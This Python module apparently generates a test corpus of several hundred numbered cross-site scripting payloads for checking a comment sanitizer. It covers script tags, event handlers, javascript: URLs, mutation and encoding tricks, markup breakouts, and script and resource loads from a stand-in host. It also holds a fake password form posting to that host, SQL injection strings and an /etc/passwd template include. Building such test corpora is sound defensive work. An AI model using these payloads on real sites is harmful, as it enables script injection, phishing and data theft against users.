"""What attackers write into comments: several hundred entries of our own making.

Each is a way to run a program in a reader's page, to load something from elsewhere, or to break
out of the place where a visitor's words stand. ``entries()`` has them all; the program of the
entry with the number 17 is ``alert(17)``.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import product

RUN = "RUN"
"""Stands for the entry's program."""
ELSEWHERE = "https://elsewhere.example"

# -- scripts --

SCRIPTS = [
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT>",
    "<sCrIpT type=module>RUN</ScRiPt>",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script/x>",
    "<script >RUN</script >",
    "<script x='>'>RUN</script>",
    "<script>RUN//",
    "<script>RUN</script",
    "<script><!--\nRUN\n--></script>",
    "<script>//<![CDATA[\nRUN//]]></script>",
    "<script>/*</b>*/RUN/*<b>*/</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "<\x00script>RUN</script>",
    "<<script>RUN//<</script>",
    "<b><script>RUN</script></b>",
    "<pre><script>RUN</script></pre>",
    "<blockquote><script>RUN</blockquote></script>",
    "<a href='https://e.example'><script>RUN</script></a>",
    "x</p><script>RUN</script><p>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "?><script>RUN</script>",
    "%><script>RUN</script>",
    "*/</style><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</title></style></script><script>RUN</script>",
    "<table><script>RUN</script></table>",
    "<select><script>RUN</script></select>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<script src='data:text/javascript,RUN'></script>",
    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
    "<script type=importmap>{}</script><script>RUN</script>",
    "<script async defer nomodule=0>RUN</script>",
    "<script for=window event=onload>RUN</script>",
    "<script\x0c>RUN</script\x0c>",
]

# -- elements that run something by themselves --

SELF_STARTING = [
    "<img src=x: onerror=RUN>",
    "<image src=x: onerror=RUN>",
    "<svg onload=RUN></svg>",
    "<svg><animate attributeName=x dur=1ms onbegin=RUN></svg>",
    "<svg><set attributeName=x dur=1ms onbegin=RUN></svg>",
    "<svg><image href=x: onerror=RUN></svg>",
    "<body onload=RUN>",
    "<body onpageshow=RUN>",
    "<iframe onload=RUN></iframe>",
    "<iframe srcdoc='x' onload=RUN></iframe>",
    "<style onload=RUN></style>",
    "<link rel=stylesheet href=x: onerror=RUN>",
    "<script src=x: onerror=RUN></script>",
    "<video src=x: onerror=RUN></video>",
    "<video><source src=x: onerror=RUN></video>",
    "<audio src=x: onerror=RUN></audio>",
    "<audio><source src=x: onerror=RUN></audio>",
    "<details open ontoggle=RUN><summary>x</summary>y</details>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<button autofocus onfocus=RUN>x</button>",
    "<a href=#x autofocus onfocus=RUN>x</a>",
    "<b tabindex=0 autofocus onfocus=RUN>x</b>",
    "<p contenteditable autofocus onfocus=RUN>x</p>",
    "<object data=x: onerror=RUN></object>",
    "<embed src=x: onerror=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<input type=image src=x: onerror=RUN>",
    "<a href=https://e.example onclick=RUN>x</a>",
    "<b onclick=RUN onmouseover=RUN>x</b>",
]


def as_it_is(entry: str) -> str:
    return entry


def in_capitals(entry: str) -> str:
    head, run, tail = entry.partition(RUN)
    return head.replace("on", "ON").replace("src", "sRc").upper() + run + tail.upper()


def with_slashes(entry: str) -> str:
    return entry.replace(" ", "/")


def over_lines(entry: str) -> str:
    return entry.replace(" ", "\r\n\t\x0c")


def without_an_end(entry: str) -> str:
    return entry.partition(">")[0] + " "


def in_entities(entry: str) -> str:
    return entry.replace(RUN, "&#x65;val&lpar;'RUN'&rpar;")


def after_a_broken_quote(entry: str) -> str:
    head, _, tail = entry.partition(" ")
    return f'<b """>{head} x="\'" {tail}'


def behind_a_fake_comment(entry: str) -> str:
    return f"<!--><b>{entry}<!-- -->"


WRITTEN: list[Callable[[str], str]] = [
    *(as_it_is, in_capitals, with_slashes, over_lines, without_an_end, in_entities),
    *(after_a_broken_quote, behind_a_fake_comment),
]

# -- addresses --

ADDRESSES = [
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "\x01javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "javascript\t:RUN",
    "javascript:RUN//https://e.example",
    "javascript://e.example/%0aRUN",
    "javascript://https://e.example/?%0dRUN",
    "&#106;avascript:RUN",
    "&#x6a&#x61vascript:RUN",
    "&#0000106avascript:RUN",
    "javascript&colon;RUN",
    "javascript&#58RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script&colon;RUN",
    "&Tab;javascript:RUN",
    "&#1;javascript:RUN",
    "javascript:/*--></title>*/RUN",
    "javascript:1;RUN",
    "javascript:'<svg onload=RUN>'",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,BASE64",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "vbscript:RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "blob:https://e.example/RUN",
    "//elsewhere.example/RUN",
    "/\\elsewhere.example/RUN",
    "https:javascript:RUN",
]
BEARERS = [
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<meta http-equiv=refresh content="0;url={}">',
    "[x]({})",
]
FEWER = ("javascript:RUN", "java&Tab;script:RUN", "data:text/html,<script>RUN</script>")
"""The addresses that are tried in every bearer; all others only as a link."""

# -- what becomes something else on its second reading --

RAW = ["style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes"]
AROUND = ["{}", "<svg>{}", "<math>{}", "<svg><desc>{}", "<math><mtext>{}", "<select>{}"]
HIDING = [
    '<{0}><b title="</{0}><img src=x: onerror=RUN>">',
    "<{0}><!--</{0}><img src=x: onerror=RUN>-->",
]
MUTATING = [
    '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
    '<svg><p><style><g title="</style><img src=x: onerror=RUN>">',
    "<math></p><style><!--</style><img src/onerror=RUN>-->",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<math><mtext><table><mglyph><svg><mtext><textarea>"
    '<a title="</textarea><img src=x: onerror=RUN>">',
    "<svg><foreignObject><style><!--</style><img src=x: onerror=RUN>",
    "<math><annotation-xml encoding=text/html><style><img src=x: onerror=RUN>",
    "<table><td><form><table></form><img src=x: onerror=RUN>",
    "<b><p><b><p><img src=x: onerror=RUN>" + "<b><i>" * 20,
    "<a><table><a href=javascript:RUN>x",
    "<!--><img src=x: onerror=RUN>-->",
    "<!-- --!><img src=x: onerror=RUN> -->",
    "<!---><img src=x: onerror=RUN>-->",
    "<!-- <!-- --><img src=x: onerror=RUN> -->",
    "<!doctype x [<!entity y '<img src=x: onerror=RUN>'>]>&y;",
    "<![CDATA[<img src=x: onerror=RUN>]]>",
    "<svg><![CDATA[><img src=x: onerror=RUN>]]>",
    "<?xml-stylesheet href='javascript:RUN'?><img src=x: onerror=RUN>",
    "<?php ?><img src=x: onerror=RUN>",
    "</ ><img src=x: onerror=RUN>",
    "</#><img src=x: onerror=RUN>",
    "<template><img src=x: onerror=RUN></template>",
    "<div><template shadowrootmode=open><img src=x: onerror=RUN></template></div>",
    "<template><p title='</template><img src=x: onerror=RUN>'>",
    "<plaintext><img src=x: onerror=RUN>",
    "<listing>&lt;img src=x: onerror=RUN&gt;</listing>",
    "<pre>&lt;img src=x: onerror=RUN&gt;</pre>",
    "&lt;img src=x: onerror=RUN&gt;",
    "&amp;lt;img src=x: onerror=RUN&amp;gt;",
    "&#60;img src=x: onerror=RUN&#62;",
    "&#x3c;img src=x: onerror=RUN&#x3e;",
    "&ltimg src=x: onerror=RUN&gt",
    "\\x3cimg src=x: onerror=RUN\\x3e",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
]

# -- out of the place where words stand --

BREAKING_OUT = [
    *(
        "".join(f"</{name}>" for name in left.split()) + "<script>RUN</script>"
        for left in (
            *("p", "div", "p div article", "article li ol section", "main body html"),
            *("td tr table", "bdi h3 header", "textarea", "script", "style", "title head"),
            *("noscript", "template"),
            *("select", "button form", "iframe", "svg", "math", "a b i em", "blockquote"),
        )
    ),
    *(f"<{tag}>" for tag in (
        *("div", "article", "section", "main", "aside", "body", "html", "head", "form", "table"),
        *("tr", "td", "select", "option", "button", "textarea", "title", "style", "script", "xmp"),
        *("plaintext", "template", "noscript", "iframe", "svg", "math", "dialog open", "li", "dd"),
        *("a href=https://e.example", "b", "pre", "blockquote", "ul", "ol", "p", "code", "h1"),
        *("frameset", "frame src=x:", "base href=//elsewhere.example/", "noframes", "label", "nav"),
    )),
    "<li></li></ol></section><li><p><a href=https://e.example><div>",
    "<table><td><a href=x><table><b></a>y",
    "<p><table><p></table><li><p></ul><ol>",
    "<a href=https://e.example><a href=https://e.example><b><a>",
    "<ul><li><ol><li><blockquote><pre><code>",
    "</li><li></li></ul></ol>" * 4,
    "<b><i><em><strong><del><code>" * 12,
    "<blockquote>" * 90,
    "<!--", "<!", "<?", "</", "<", "<a", "<a href", "<a href=", '<a href="', "<a href='https://e",
    "<b title='", "<![CDATA[", "<!doctype html>", "&", "&#", "&#x", "&#x110000;", "&#0;", "&;",
    "\x00", "\x1b[31m", "\x7f",
]  # fmt: skip

# -- styles, names, templates --

DRESSED_UP = [
    "<style>*{background:url(https://elsewhere.example/x)}</style>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<link rel=prefetch href={ELSEWHERE}/x>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    "<p style='position:fixed;inset:0;background:url(https://elsewhere.example/x)'>x</p>",
    "<b style='animation:x 1s' onanimationstart=RUN>x</b><style>@keyframes x{}</style>",
    "<b style='width:expression(RUN)'>x</b>",
    "<b style='behavior:url(#x);-moz-binding:url(//elsewhere.example/x)'>x</b>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<img srcset='{ELSEWHERE}/x.png 2x'>",
    f"<picture><source srcset={ELSEWHERE}/x><img></picture>",
    f"<video poster={ELSEWHERE}/x></video>",
    f"<table background={ELSEWHERE}/x><td background={ELSEWHERE}/y>x</table>",
    f"<body background={ELSEWHERE}/x>",
    f"<input type=image src={ELSEWHERE}/x>",
    f"<svg><image href={ELSEWHERE}/x></svg>",
    f"<svg><use href={ELSEWHERE}/x#y></svg>",
    f"<object data={ELSEWHERE}/x></object>",
    f"<embed src={ELSEWHERE}/x>",
    f"<iframe src={ELSEWHERE}/x></iframe>",
    f"<audio src={ELSEWHERE}/x autoplay></audio>",
    f"<track src={ELSEWHERE}/x>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/x'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>",
    f"<form action={ELSEWHERE}><input name=password type=password><button>Log in</button></form>",
    "<b id=comment-form class='office is-preview'>Editor</b>",
    "<a id=x name=cookie href=https://e.example>x</a>",
    "<form name=body><input name=firstChild></form><img name=forms>",
    "<h1>Error 500</h1><h2>Log in again</h2>",
    "<comment-receipt data-token=x data-name=y data-approved></comment-receipt>",
    "<comment-memory><input></comment-memory>",
    "<reader-preferences><input name=scheme></reader-preferences>",
    "<slot name=x></slot><button popovertarget=preferences>x</button>",
    "<dialog open>x</dialog><div popover=manual>x</div>",
    "<bdo dir=rtl>x</bdo><p dir=rtl>y</p>",
    "{{ 7 * 7 }}{{ config }}{% include '/etc/passwd' %}{# x #}",
    "${RUN}`${RUN}`#{RUN}<%= RUN %><% RUN %>",
    "{{constructor.constructor('RUN')()}}<b ng-app ng-init=RUN x-data=RUN v-html=RUN @click=RUN>",
    "'; DROP TABLE comment; --", "' OR 1=1 --", "%s%n%(name)s{0}{name}", "\\', RUN, \\'",
    "';RUN//", '";RUN//', "`;RUN//", "</script><!--<script>RUN", "\u2028RUN\u2029RUN",
    "<svg><style>@import 'https://elsewhere.example/x.css';</style></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=data:text/javascript,RUN></script></svg>",
    "<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>",
    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN xmlns='http://www.w3.org/2000/svg'/>#x\">",
    "<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=javascript:RUN><text y=9>x</text></a>",
    "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:RUN'>x</maction></math>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x: onerror=RUN&gt;'></iframe>",
    "<object type=text/html data='data:text/html,<script>RUN</script>'></object>",
    "<applet code=x><param name=y value=RUN></applet>",
    "<isindex action=javascript:RUN type=image>",
    "<portal src=//elsewhere.example></portal><fencedframe></fencedframe>",
]  # fmt: skip

# -- bare addresses, which become links --

BARE = [
    'https://e.example/"onmouseover="RUN',
    "https://e.example/'onmouseover='RUN",
    "https://e.example/<script>RUN</script>",
    "https://e.example/&quot;onclick=&quot;RUN",
    "https://e.example/?<b>x</b>",
    "https://e.example/`onclick=RUN`",
    "https://e.example/ onclick=RUN",
    "https://javascript:RUN@e.example/",
    "https://e.example\\@elsewhere.example/",
    "https://e.example/\u202egnp.exe",
    "https://e.example/<a href='https://e.example/",
    "<a href='https://e.example/\"><script>RUN</script>'>https://e.example</a>",
    '<a href="https://e.example/&quot; onclick=&quot;RUN">x</a>',
    "<a href='https://e.example' target=_blank rel=opener ping=//elsewhere.example download>x</a>",
    "<code>https://e.example/<script>RUN</script></code>",
    "javascript:RUN",
    "mailto:a@e.example?body=<script>RUN</script>",
]

# -- letters --

LETTERS = [
    "\u202e<script>RUN</script>\u202c",
    "\u2066\u202e\u2067" * 20 + "x",
    "\u202e" + "reversed",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u02c2script\u02c3RUN",
    "<\u0131mg src=x: onerror=RUN>",
    "<\u017fcript>RUN</\u017fcript>",
    "<script\u2028>RUN</script>",
    "<img\u00a0src=x:\u00a0onerror=RUN>",
    "<img\u3000src=x: onerror=RUN>",
    "<\ufeffscript>RUN</script>",
    "<scr\u200bipt>RUN</script>",
    "<scr\u00adipt>RUN</script>",
    "a" + "\u0301\u0330\u0489" * 300,
    "<b>" + "\u0301" * 50 + "</b>" + "\u0301" * 50,
    "\ufdfd" * 200 + "\U0001242b" * 100,
    "x" * 3_000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 50,
    "\ud7ff\ue000\ufffe\uffff",
    "&#x202e;&#8294;&rlm;&zwj;&ZeroWidthSpace;&NoBreak;",
    "\u2800\u3164\uffa0" * 30,
    "\r\r\n\n\x0b\x0c\x85\u2028\u2029" * 20,
]


def entries() -> list[str]:
    """Every entry, with its number in its program; each of them once."""
    found = dict.fromkeys(_templates())
    return [_numbered(entry, number) for number, entry in enumerate(found)]


def _templates() -> Iterator[str]:
    yield from SCRIPTS
    for written, entry in product(WRITTEN, SELF_STARTING):
        yield written(entry)
    yield from (BEARERS[0].format(address) for address in ADDRESSES)
    yield from (bearer.format(address) for bearer, address in product(BEARERS, FEWER))
    for around, hiding, raw in product(AROUND, HIDING, RAW):
        yield around.format(hiding.format(raw))
    for group in (MUTATING, BREAKING_OUT, DRESSED_UP, BARE, LETTERS):
        yield from group


def _numbered(entry: str, number: int) -> str:
    program = f"alert({number})"
    page = base64.b64encode(f"<script>{program}</script>".encode()).decode()
    return entry.replace(RUN, program).replace("BASE64", page)
